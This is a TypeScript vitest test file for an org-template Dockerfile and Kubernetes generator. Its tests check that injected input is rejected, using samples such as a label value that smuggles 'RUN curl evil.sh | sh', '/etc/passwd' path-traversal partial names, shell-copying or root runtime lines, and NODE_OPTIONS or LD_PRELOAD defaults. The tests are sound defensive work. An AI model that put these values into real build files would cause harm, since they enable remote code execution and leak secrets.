import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { App, AppProps, MsbProject, MsbValidationError, RECORD_FILE, TemplateError } from '../../src';
import { readTree, tempDir, writePackage } from '../util';

const EXAMPLE = path.resolve(__dirname, '../../examples/org-template');
const TEAM = { labels: { 'com.acme.team': 'payments' } };

/** Installs a copy of the example package (optionally changed) as node_modules/@acme/msb-template. */
function install(dir: string, change?: (pkgDir: string) => void): string {
  const target = path.join(dir, 'node_modules/@acme/msb-template');
  fs.rmSync(target, { recursive: true, force: true });
  fs.cpSync(EXAMPLE, target, { recursive: true });
  change?.(target);
  return target;
}

function edit(file: string, f: (s: string) => string): void {
  fs.writeFileSync(file, f(fs.readFileSync(file, 'utf8')));
}

/** Version 2 of the example: new version, a new label text, a bigger memory limit. */
function toV2(pkgDir: string): void {
  edit(path.join(pkgDir, 'package.json'), (s) => s.replace('"version": "1.0.0"', '"version": "2.0.0"'));
  edit(path.join(pkgDir, 'templates/partials/labels.hbs'), (s) => s.replace('msb-template v1', 'msb-template v2'));
  edit(path.join(pkgDir, 'msb-template.json'), (s) => s.replace('"memoryLimit": "384Mi"', '"memoryLimit": "512Mi"'));
}

function synthIn(dir: string, props: AppProps, template?: string, extra: Partial<ConstructorParameters<typeof MsbProject>[0]> = {}) {
  const project = new MsbProject({ name: 'orders-api', outdir: dir, template, ...extra });
  new App(project, props);
  project.synth();
  return readTree(dir);
}

function newDir(): string {
  const dir = tempDir();
  writePackage(dir);
  return dir;
}

describe('org templates', () => {
  it('a new project with the org package gets its mirror, labels, steps, pod defaults and .dockerignore additions', () => {
    const dir = newDir();
    install(dir);
    const files = synthIn(dir, TEAM, '@acme/msb-template');
    expect(files.Dockerfile).toContain('FROM registry.acme.internal/library/node:26-trixie AS base');
    expect(files.Dockerfile).toContain('FROM registry.acme.internal/distroless/nodejs26-debian13:nonroot AS runtime');
    expect(files['Dockerfile.debug']).toContain('FROM registry.acme.internal/distroless/nodejs26-debian13:debug-nonroot AS runtime');
    expect(files.Dockerfile).toContain('RUN --mount=type=secret,id=npmrc,target=/root/.npmrc --mount=type=secret,id=ca_cert,target=/run/secrets/ca_cert npm config set --location=global registry https://npm.acme.internal/');
    expect(files.Dockerfile).toContain('org.opencontainers.image.vendor="ACME Corp"');
    expect(files.Dockerfile).toContain('com.acme.team="payments"');
    expect(files.Dockerfile).toContain('com.acme.template="msb-template v1"');
    expect(files['.dockerignore']).toMatch(/^\.terraform$/m);
    const dep = files['k8s/base/deployment.yaml'];
    expect(dep).toContain('priorityClassName: acme-standard');
    expect(dep).toContain('memory: 384Mi');
    expect(dep).toContain('acme.com/pool: general');
    expect(dep).toContain('acme.com/cost-center: platform');
    const record = JSON.parse(files[RECORD_FILE]);
    expect(record.templates.Dockerfile).toEqual(['@acme/msb-template@1.0.0: partials/labels.hbs', '@acme/msb-template@1.0.0: msb-template.json', 'built-in']);
    // the partial is recorded only where it was used; the defaults for every file they shape
    expect(record.templates['.dockerignore']).toEqual(['@acme/msb-template@1.0.0: msb-template.json', 'built-in']);
    expect(record.templates['k8s/base/deployment.yaml']).toEqual(['@acme/msb-template@1.0.0: msb-template.json', 'built-in']);
  });

  it("the App's own props win over the template's defaults", () => {
    const dir = newDir();
    install(dir);
    const files = synthIn(dir, { ...TEAM, kubernetes: { resources: { memoryLimit: '1Gi' }, replicas: 4 } }, '@acme/msb-template');
    expect(files['k8s/base/deployment.yaml']).toContain('memory: 1Gi');
    expect(files['k8s/base/deployment.yaml']).toContain('replicas: 4');
    expect(files['k8s/base/deployment.yaml']).toContain('cpu: 200m');
  });

  it('an existing project switched to the template changes only what the template says', () => {
    const dir = newDir();
    const before = synthIn(dir, TEAM);
    install(dir);
    const after = synthIn(dir, TEAM, '@acme/msb-template');
    expect(before.Dockerfile).toContain('FROM docker.io/library/node:26-trixie AS base');
    expect(after.Dockerfile).toContain('FROM registry.acme.internal/library/node:26-trixie AS base');
    expect(after['k8s/base/service.yaml']).not.toEqual(before['k8s/base/service.yaml']); // cost-center label
    expect(after['k8s/overlays/debug/kustomization.yaml']).toEqual(before['k8s/overlays/debug/kustomization.yaml']);
  });

  it('upgrading v1 -> v2 and re-synthesizing shows up as a reviewable diff', () => {
    const dir = newDir();
    install(dir);
    const v1 = synthIn(dir, TEAM, '@acme/msb-template');
    install(dir, toV2);
    const v2 = synthIn(dir, TEAM, '@acme/msb-template');
    const changed = Object.keys(v2).filter((f) => v1[f] !== v2[f] && !f.startsWith('node_modules/')).sort();
    expect(changed).toEqual(['.projen/msb.json', 'Dockerfile', 'Dockerfile.debug', 'k8s/base/deployment.yaml']);
    const lineDiff = (a: string, b: string) => b.split('\n').filter((l) => !a.split('\n').includes(l));
    expect(lineDiff(v1.Dockerfile, v2.Dockerfile)).toEqual(['      com.acme.template="msb-template v2"']);
    // the heap follows the memory limit (75 %)
    expect(lineDiff(v1['k8s/base/deployment.yaml'], v2['k8s/base/deployment.yaml'])).toEqual(['              value: --max-old-space-size=384', '              memory: 512Mi']);
    expect(JSON.parse(v2[RECORD_FILE]).templates.Dockerfile[0]).toBe('@acme/msb-template@2.0.0: partials/labels.hbs');
  });

  it('a version range that the installed package does not satisfy is an error', () => {
    const dir = newDir();
    install(dir);
    expect(() => synthIn(dir, TEAM, '@acme/msb-template@^2.0.0')).toThrow(/installed @acme\/msb-template is 1\.0\.0, which does not satisfy \^2\.0\.0/);
    expect(() => synthIn(dir, TEAM, '@acme/not-installed')).toThrow(/package @acme\/not-installed is not installed/);
  });

  it('policies reject a definition with a clear error naming the template', () => {
    const dir = newDir();
    install(dir);
    // a stricter copy: every service must also name its cost center
    install(dir, (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"requiredLabels": [', '"requiredLabels": ["com.acme.cost-center", ')));
    const before = readTree(dir);
    let err: MsbValidationError | undefined;
    try {
      synthIn(dir, { baseImages: { builder: 'docker.io/library/node:26-trixie' }, kubernetes: { replicas: 1 } }, '@acme/msb-template');
    } catch (e) {
      err = e as MsbValidationError;
    }
    expect(err).toBeInstanceOf(MsbValidationError);
    expect(err!.message).toContain('baseImages.builder: got "docker.io/library/node:26-trixie"; expected an image from registry.acme.internal (policy of template @acme/msb-template@1.0.0)');
    expect(err!.message).toContain('expected a label com.acme.cost-center');
    expect(err!.message).not.toContain('expected a label com.acme.team'); // the template's default label satisfies it
    expect(err!.message).toContain('kubernetes.replicas: got 1; expected at least 2');
    expect(readTree(dir)).toEqual(before);
  });

  it("the project's own template folder comes first, then the org package, then the built-ins", () => {
    const dir = newDir();
    install(dir);
    fs.mkdirSync(path.join(dir, 'msb-templates/partials'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'msb-templates/partials/labels.hbs'), 'LABEL com.example.own="yes" \\\n{{#each labels}} {{key}}={{q value}}{{/each}}\n');
    const files = synthIn(dir, TEAM, '@acme/msb-template');
    expect(files.Dockerfile).toContain('LABEL com.example.own="yes"');
    expect(files.Dockerfile).not.toContain('com.acme.template');
    expect(files.Dockerfile).toContain('FROM registry.acme.internal/'); // org defaults still apply
    expect(JSON.parse(files[RECORD_FILE]).templates.Dockerfile[0]).toBe('project:msb-templates: partials/labels.hbs');
  });

  describe('a broken copy', () => {
    const cases: [string, (pkgDir: string) => void, RegExp][] = [
      ['syntax error', (d) => edit(path.join(d, 'templates/partials/labels.hbs'), (s) => `${s}LABEL broken={{q value}\nLABEL more=1\n`),
        /templates\/partials\/labels\.hbs is invalid: Parse error on line 3/],
      ['missing partial', (d) => edit(path.join(d, 'templates/partials/labels.hbs'), (s) => `${s}{{> acme-footer}}\n`),
        /templates\/partials\/labels\.hbs:3 uses partial "acme-footer", which no template source has/],
      ['unknown helper', (d) => edit(path.join(d, 'templates/partials/labels.hbs'), (s) => `${s}{{upper "x"}}\n`),
        /templates\/partials\/labels\.hbs is invalid: .*unknown helper upper/],
      ['wrong default type', (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"replicas": 2', '"replicas": "two"')),
        /msb-template\.json has 1 problem\(s\):\n {2}- defaults\.kubernetes\.replicas: got "two"; expected a number/],
      ['unknown setting', (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"defaults": {', '"defaults": { "allowPodSecurityViolations": true,')),
        /defaults\.allowPodSecurityViolations: unknown setting/],
      ['invalid JSON', (d) => edit(path.join(d, 'msb-template.json'), (s) => s.slice(0, 20)),
        /msb-template\.json \(.*msb-template\.json\) is not valid JSON at line \d+/],
    ];
    for (const [name, breakIt, message] of cases) {
      it(`${name}: an error naming the template file, nothing written`, () => {
        const dir = newDir();
        install(dir, breakIt);
        const before = readTree(dir);
        let err: Error | undefined;
        try {
          synthIn(dir, TEAM, '@acme/msb-template');
        } catch (e) {
          err = e as Error;
        }
        expect(err).toBeInstanceOf(TemplateError);
        expect(err!.message).toMatch(message);
        expect(readTree(dir)).toEqual(before);
      });
    }
  });

  it('values are escaped for Dockerfiles, not HTML; a newline in a default is rejected', () => {
    const dir = newDir();
    install(dir, (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"ACME Corp"', '"ACME & Sons <\\"Corp\\"> $HOME"')));
    const files = synthIn(dir, TEAM, '@acme/msb-template');
    expect(files.Dockerfile).toContain('org.opencontainers.image.vendor="ACME & Sons <\\"Corp\\"> \\$HOME"');
    const bad = newDir();
    install(bad, (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"ACME Corp"', '"ACME\\nRUN curl evil.sh | sh"')));
    expect(() => synthIn(bad, TEAM, '@acme/msb-template')).toThrow(/labels\.org\.opencontainers\.image\.vendor: got "ACME\\nRUN curl evil\.sh \| sh"; expected a single line/);
  });

  it('weakening the runtime stage needs a visible opt-out in the project definition', () => {
    const variants: [string, string[], RegExp][] = [
      ['a shell from another image', ['COPY --from=docker.io/library/busybox:latest /bin/sh /bin/sh'], /COPY --from=docker\.io\/library\/busybox:latest \(only the prod-deps and build stages/],
      ['a shell from the builder stage', ['COPY --from=base /bin/bash /bin/sh'], /COPY --from=base \(only the prod-deps and build stages/],
      ['outside the working directory', ['COPY --from=build /usr/bin /usr/bin'], /copies from outside \/app/],
      ['a shell entrypoint', ['ENTRYPOINT ["/bin/sh", "-c"]'], /ENTRYPOINT is not allowed in the runtime stage/],
      ['RUN', ['RUN echo hi'], /RUN is not allowed/],
      ['root, even briefly', ['USER 0:0'], /USER 0:0 \(expected USER 65532:65532\)/],
    ];
    for (const [name, lines, message] of variants) {
      const weaken = (d: string) => {
        fs.writeFileSync(path.join(d, 'templates/partials/runtime-stage.hbs'), [
          'FROM {{runtime.image}} AS runtime',
          'WORKDIR {{workdir}}',
          ...lines,
          'USER {{uid}}:{{gid}}',
          'CMD {{json cmd}}',
          '',
        ].join('\n'));
      };
      const dir = newDir();
      install(dir, weaken);
      const before = readTree(dir);
      expect(() => synthIn(dir, TEAM, '@acme/msb-template'), name).toThrow(message);
      expect(readTree(dir), name).toEqual(before);
      const files = synthIn(dir, { ...TEAM, allowInsecureDockerfile: true }, '@acme/msb-template');
      expect(files.Dockerfile, name).toContain(lines[0]);
    }
  });

  it('a template that drops the secret exclusions from .dockerignore needs the same opt-out', () => {
    const dir = newDir();
    install(dir, (d) => fs.writeFileSync(path.join(d, 'templates/partials/dockerignore.hbs'), '# {{marker}}\nnode_modules\n'));
    expect(() => synthIn(dir, TEAM, '@acme/msb-template')).toThrow(/\.dockerignore \(templates: @acme\/msb-template@1\.0\.0: partials\/dockerignore\.hbs[\s\S]*\.env/);
    const files = synthIn(dir, { ...TEAM, allowInsecureDockerfile: true }, '@acme/msb-template');
    expect(files['.dockerignore']).not.toContain('.env');
  });

  it('a partial that replaces nothing is a named error, and a partial name cannot leave the template folders', () => {
    const dir = newDir();
    install(dir, (d) => fs.writeFileSync(path.join(d, 'templates/partials/dockerfile-path.hbs'), '../../outside'));
    const before = readTree(dir);
    expect(() => synthIn(dir, TEAM, '@acme/msb-template')).toThrow(/partials\/dockerfile-path\.hbs \(@acme\/msb-template@1\.0\.0\): partial "dockerfile-path" replaces no built-in partial/);
    expect(readTree(dir)).toEqual(before);
    // a helper partial that an override of a built-in uses is fine
    const helper = newDir();
    install(helper, (d) => {
      fs.writeFileSync(path.join(d, 'templates/partials/acme-footer.hbs'), 'LABEL com.acme.footer="1"\n');
      edit(path.join(d, 'templates/partials/labels.hbs'), (s) => `${s}{{> acme-footer}}\n`);
    });
    expect(synthIn(helper, TEAM, '@acme/msb-template').Dockerfile).toContain('LABEL com.acme.footer="1"');
    for (const name of ['../../../../escape', '/etc/passwd']) {
      const escape = newDir();
      install(escape, (d) => edit(path.join(d, 'templates/partials/labels.hbs'), (s) => `${s}{{> ${name}}}\n`));
      const was = readTree(escape);
      expect(() => synthIn(escape, TEAM, '@acme/msb-template'), name).toThrow(TemplateError);
      expect(readTree(escape), name).toEqual(was);
    }
  });
});

describe('org defaults cannot change what the runtime runs', () => {
  it('an org env default NODE_OPTIONS (or LD_PRELOAD) needs the project\'s own env or the opt-out; nothing is written', () => {
    for (const [name, value] of [['NODE_OPTIONS', '--inspect=0.0.0.0:9229'], ['LD_PRELOAD', '/app/dist/x.so']]) {
      const dir = newDir();
      install(dir, (d) => edit(path.join(d, 'msb-template.json'), (s) => s.replace('"defaults": {', `"defaults": { "env": { "${name}": "${value}" },`)));
      const before = readTree(dir);
      expect(() => synthIn(dir, TEAM, '@acme/msb-template')).toThrow(new RegExp(`env\\.${name}: got "${value.replace(/[.*/]/g, '\\$&')}"; expected no ${name} from an org template's defaults`));
      expect(readTree(dir)).toEqual(before);
      // the project's own definition is trusted: its value wins and is accepted
      expect(synthIn(dir, { ...TEAM, env: { [name]: 'own' } }, '@acme/msb-template').Dockerfile).toContain(`ENV ${name}="own"`);
      expect(synthIn(dir, { ...TEAM, allowInsecureDockerfile: true }, '@acme/msb-template').Dockerfile).toContain(`ENV ${name}=`);
    }
  });
});
